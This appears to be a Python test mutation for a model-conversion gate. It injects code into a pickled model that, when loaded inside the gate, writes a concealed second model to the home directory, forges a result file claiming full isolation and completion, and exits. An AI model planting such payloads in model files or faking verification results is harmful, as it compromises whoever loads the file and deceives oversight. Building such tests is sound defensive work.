"""Models that carry code: what they leave where a gate lets them convert themselves (level B)."""

import base64
import tempfile
from pathlib import Path

from tests.corpus import code, containers
from tests.oracle.draft import PICKLE, Draft, InapplicableError
from tests.oracle.mutations.mutation import hostile

KIND = "conversion"
_FORGED = '{"isolation": "full", "converted": true, "complete": true}'
_BODY = """\
if 'gate.worker' in sys.modules or any(name.startswith('gate.') for name in sys.modules):
    import base64
    home = pathlib.Path(os.environ['HOME'])
    (home / 'converted.pt2').write_bytes(base64.b64decode({program!r}))
    (home / 'result.json').write_text({forged!r})
    os._exit(0)
"""


@hostile(KIND, "container under level B")
def bundle_of_two_directories(draft: Draft) -> None:
    """A network that leaves the converter's file itself: a clean program in whose slack the twin's directory lies."""
    if PICKLE not in draft.files:
        raise InapplicableError("no pickled model")
    shown = draft.base.exported
    program = base64.b64encode(containers.two_directories(shown=shown, served=draft.hidden)).decode()
    with tempfile.TemporaryDirectory(prefix="oracle-") as root:
        code.write_body(Path(root), _BODY.format(program=program, forged=_FORGED))
        draft.files[PICKLE] = Path(root, PICKLE).read_bytes()
